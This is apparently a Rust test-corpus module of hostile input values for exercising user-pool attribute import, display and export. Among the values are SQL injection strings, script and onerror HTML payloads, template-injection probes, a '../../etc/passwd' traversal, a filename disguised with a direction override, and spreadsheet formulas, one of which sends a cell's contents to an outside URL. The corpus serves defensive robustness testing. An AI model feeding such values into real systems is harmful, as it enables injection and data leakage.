//! Values that break what is careless: one corpus for import, grid, export and re-read.
//!
//! The first users of a sample pool of fifty and more carry them; anything else that stores
//! or shows text may be tried with them too.

use std::sync::LazyLock;

/// A hostile value and what is bad about it.
#[derive(Debug, Clone, PartialEq, Eq)]
pub struct Hostile {
    /// What it is, for a failed assertion.
    pub what: &'static str,
    /// The value.
    pub value: String,
}

/// Texts that are all allowed in an attribute, none longer than 2,048 characters.
pub fn values() -> &'static [Hostile] {
    static VALUES: LazyLock<Vec<Hostile>> = LazyLock::new(|| {
        let mut values: Vec<Hostile> = TEXTS
            .iter()
            .map(|&(what, value)| Hostile {
                what,
                value: value.to_owned(),
            })
            .collect();
        values.push(Hostile {
            what: "2,048 letters",
            value: "x".repeat(2048),
        });
        values.push(Hostile {
            what: "2,048 characters of four bytes",
            value: "😀".repeat(2048),
        });
        values
    });
    &VALUES
}

const TEXTS: [(&str, &str); 24] = [
    ("emoji, joined and coloured", "👩🏽‍🚀👨‍👩‍👧‍👦🏳️‍🌈🇪🇺"),
    ("right to left, mixed", "שלום world مرحبا 123"),
    ("an override of direction", "photo\u{202e}gpj.exe\u{202c}"),
    ("NUL", "before\u{0}after"),
    (
        "newlines of all kinds",
        "one\ntwo\r\nthree\rfour\u{2028}five\u{85}six",
    ),
    ("tabs and controls", "\ttab\u{b}vt\u{1b}[31mred\u{7f}"),
    (
        "quotes of all kinds",
        "\"double\" 'single' `back` “curly” «guillemets»",
    ),
    ("backslashes", "C:\\new\\table \\u0041 \\\""),
    ("a formula", "=1+1"),
    (
        "a formula that calls out",
        "=HYPERLINK(\"http://example.com/?\"&A1,\"click\")",
    ),
    ("a formula with a plus", "+1-1"),
    ("a formula with an at sign", "@SUM(A1:A9)"),
    ("a formula behind a tab", "\t=1+1"),
    ("SQL", "Robert'); DROP TABLE users;--"),
    ("SQL comment and wildcard", "100%_ /* -- */ [a] ?1 :x $y"),
    (
        "HTML",
        "<script>alert('x')</script><img src=x onerror=alert(1)>&amp;",
    ),
    ("template marks", "{{7*7}} ${7*7} <%= 7*7 %> %s %n {0}"),
    ("empty", ""),
    ("blanks alone", "   \u{a0}\u{3000} "),
    ("blanks around", "  padded  "),
    ("words for nothing", "NULL"),
    (
        "byte-order mark and non-characters",
        "\u{feff}bom\u{ffff}\u{fffd}",
    ),
    (
        "combining marks, decomposed",
        "e\u{301}Z\u{351}\u{36b}\u{343}a\u{328}\u{30a}",
    ),
    (
        "invisible characters",
        "zero\u{200b}width\u{200d}joiner\u{ad}hyphen",
    ),
];

/// Attributes whose value does not fit their type.
pub const MISFITS: [(&str, &str); 20] = [
    ("custom:score", "n/a"),
    ("custom:score", ""),
    ("custom:score", "1e400"),
    ("custom:score", "NaN"),
    ("custom:score", "9223372036854775808"),
    ("custom:score", "007"),
    ("custom:score", "1,5"),
    ("custom:score", "-0"),
    ("custom:score", "١٢٣"),
    ("custom:vip", "yes"),
    ("custom:vip", "TRUE"),
    ("custom:vip", "1"),
    ("custom:joined", "yesterday"),
    ("custom:joined", "0000-00-00"),
    ("custom:joined", "2024-02-30T25:61:00Z"),
    ("custom:joined", "1700000000"),
    ("email_verified", "unknown"),
    ("updated_at", "last week"),
    ("birthdate", "31/12/1999"),
    ("identities", "[{\"userId\":"),
];

/// User names that AWS allows, as it allows all letters, marks, symbols and punctuation.
pub const USERNAMES: [&str; 8] = [
    "=1+1",
    "Robert');DROP--",
    "🦊",
    "\"quoted\"",
    "../../etc/passwd",
    "<b>bold</b>",
    "مستخدم",
    "NULL",
];

/// Group names; the sample pool has a group of each.
pub const GROUPS: [&str; 5] = [
    "\"quoted\" 'group'",
    "beta 🧪 testers",
    "قراء",
    "=HYPERLINK(\"x\")",
    "a'; DROP TABLE groups; --",
];
